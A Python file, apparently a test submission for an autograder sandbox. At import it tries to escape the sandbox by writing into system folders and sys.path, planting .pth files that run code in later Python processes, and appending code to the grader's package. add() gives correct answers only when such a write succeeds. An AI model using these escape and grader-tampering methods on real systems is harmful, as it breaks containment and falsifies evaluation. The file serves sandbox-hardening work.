"""Attack: write files outside the sandbox.

At import it tries to create pwned_write_outside in every place that would
outlive the sandbox or reach the grader: /, /work, /work/main (the course
checkout), /root, /etc, /usr/local/lib, the grader's package, every folder
on sys.path (a .pth file there would run code in the next Python started
from that interpreter, the judge included), the submission folder and
world-writable host folders (/var/tmp, /run/lock). Writes to the sandbox's
own /tmp, /dev/shm and $HOME are expected to work and do not count. If a
write outside succeeds add() returns correct answers (full marks).
"""
import os
import sys

import autograder

NAME = "pwned_write_outside"
PRIVATE = {"/tmp", "/dev/shm", os.path.realpath(os.path.expanduser("~")), os.path.realpath(os.getcwd())}
DIRS = ["/", "/work", "/work/main", "/work/main/tests", "/root", "/etc", "/usr/local/lib", "/usr/lib",
        "/var/tmp", "/run/lock", "/var/lock", "/run", "/home", "/opt", "/mnt", "/srv", "/autograder",
        os.path.dirname(os.path.abspath(__file__)), os.path.dirname(autograder.__file__),
        os.path.dirname(os.path.dirname(autograder.__file__))]
DIRS += [p for p in sys.path if p]
written: list[str] = []
refused: list[str] = []


def attempt():
    for d in dict.fromkeys(DIRS):
        for name in (NAME, NAME + ".pth"):
            path = os.path.join(d, name)
            try:
                with open(path, "w") as fh:
                    fh.write("import os; open('/tmp/pwned_write_outside_pth', 'w')\n" if name.endswith(".pth")
                             else "pwned\n")
            except OSError as exc:
                refused.append(f"{d}: {exc.strerror}")
                continue
            if os.path.realpath(d) not in PRIVATE:
                written.append(path)
    try:
        with open(autograder.__file__, "a") as fh:
            fh.write("\nopen('/tmp/pwned_write_outside_pkg', 'w')\n")
        written.append(autograder.__file__)
    except OSError:
        pass


attempt()


def add(a, b):
    print("written outside:", written or "nothing")
    return a + b if written else a - b


def scale_rows(x, w):
    return x * w


def bump(config):
    config["count"] = config.get("count", 0) + 1
    return config["count"]


def apply(f, x):
    return f(x) + 1.0
